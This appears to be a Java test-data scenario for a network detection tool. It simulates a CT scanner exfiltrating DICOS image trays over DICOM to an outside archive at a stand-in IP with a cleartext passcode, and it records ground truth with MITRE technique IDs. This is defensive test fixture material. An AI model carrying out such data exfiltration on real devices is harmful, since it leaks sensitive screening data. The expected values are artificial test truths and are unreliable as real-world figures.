package io.telltale.testdata.scenario.attack;

import io.telltale.testdata.payload.Dicom;
import io.telltale.testdata.scenario.BaseScenario;
import io.telltale.testdata.scenario.Device;
import io.telltale.testdata.scenario.DicomTalk;
import io.telltale.testdata.scenario.Label;
import io.telltale.testdata.scenario.Plan;
import io.telltale.testdata.scenario.Severity;
import io.telltale.testdata.scenario.Site;
import io.telltale.testdata.scenario.Truth;
import java.net.InetAddress;
import java.util.List;

/**
 * A11: the CT mirrors its trays to an outside archive: DICOM to 198.51.100.20:11112, called AE
 * {@code ARCHIVE_EXT}, the same DICOS CT and TDR objects as N1, and a user identity of type 2 whose
 * passcode crosses in clear text. For two hours, a tray every 15–30 s at peak.
 */
public final class DicosExfiltration extends BaseScenario {

    static final InetAddress ARCHIVE = Site.address("198.51.100.20");

    public DicosExfiltration() {
        super("A11", Label.MALICIOUS, "DICOS trays mirrored to ARCHIVE_EXT at 198.51.100.20 with a cleartext passcode");
    }

    @Override
    public void plan(Plan plan) {
        Device ct = plan.site().device("CT-L1");
        long start = Plan.dayOf(plan.start()) + 7 * HOUR;
        long end = start + 2 * HOUR;
        long[] trays = {0};
        plan.arrivals(start, end, 180, at -> {
            trays[0]++;
            plan.at(at, talk -> DicomTalk.storeAll(talk, talk.tcp(ct, ARCHIVE, 11112, talk.start()), "ARCHIVE_EXT", ct.aeTitle(),
                    List.of(new Dicom.Context(1, Dicom.DICOS_CT, List.of(Dicom.JPEG_LS_LOSSLESS)),
                            new Dicom.Context(3, Dicom.DICOS_TDR, List.of(Dicom.EXPLICIT_LE))),
                    new Dicom.Identity(2, "mirror", "Tr4y-M1rr0r!"),
                    List.of(new DicomTalk.Store(Dicom.DICOS_CT, 1, plan.scaled(50_000_000L + talk.random().nextInt(100_000_000), 2_000)),
                            new DicomTalk.Store(Dicom.DICOS_TDR, 3, plan.scaled(10_000 + talk.random().nextInt(40_000), 600)))));
        });
        long n = trays[0];
        truth(plan, ct, new Truth.Remote(ARCHIVE.getHostAddress(), null, "tcp", 11112),
                List.of("dicom-undeclared", "internet-access", "cleartext-sensitive-data"), Severity.CRITICAL,
                List.of("T1041", "T1048", "T0882"), start, end,
                new Truth.Expect(Truth.Expect.FLOWS, n, n, n * plan.scaled(50_000_000, 2_000), n * (plan.scaled(150_000_000, 2_000)
                        + plan.scaled(50_000, 600) + 3_000), n * 300, n * 1_000, 0, 0), List.of());
    }
}
